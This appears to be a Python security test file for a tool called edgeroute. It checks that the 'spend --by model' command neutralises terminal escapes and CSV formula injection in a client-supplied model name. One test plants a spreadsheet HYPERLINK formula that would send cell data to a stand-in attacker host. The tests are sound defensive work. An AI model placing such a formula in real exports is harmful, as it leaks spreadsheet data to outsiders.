"""`edgeroute spend --by model` prints a client's model name (kept for a refused request):
terminal escapes (ESC and C1) must not reach the operator's terminal, and in `--format csv` a
name like `=HYPERLINK(...)` must not become a formula when the file is opened in a spreadsheet."""

from __future__ import annotations

import asyncio
import csv
import io
import subprocess
import sys
from pathlib import Path
from typing import Any

from tests.security.test_operator_terminal import _assert_inert, _logged_refusal


async def _spend(path: Path, fmt: str) -> str:
    out = await asyncio.to_thread(
        subprocess.run,
        [sys.executable, "-m", "edgeroute", "spend", "-c", str(path), "--by", "model", "--format", fmt],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert out.returncode == 0, out.stderr
    return out.stdout


async def test_terminal_injection_through_edgeroute_spend(start_upstream: Any, tmp_path: Path) -> None:
    path, _ = await _logged_refusal(tmp_path, start_upstream)
    _assert_inert(await _spend(path, "table"))
    _assert_inert(await _spend(path, "json"))


async def test_csv_injection_through_edgeroute_spend(start_upstream: Any, tmp_path: Path) -> None:
    import tests.security.test_operator_terminal as t

    evil, t.EVIL = t.EVIL, '=HYPERLINK("http://evil.example/?"&A1,"open")'  # the refused request's model
    try:
        path, _ = await _logged_refusal(tmp_path, start_upstream)
    finally:
        t.EVIL = evil
    cells = [row[0] for row in csv.reader(io.StringIO(await _spend(path, "csv")))]
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells), cells
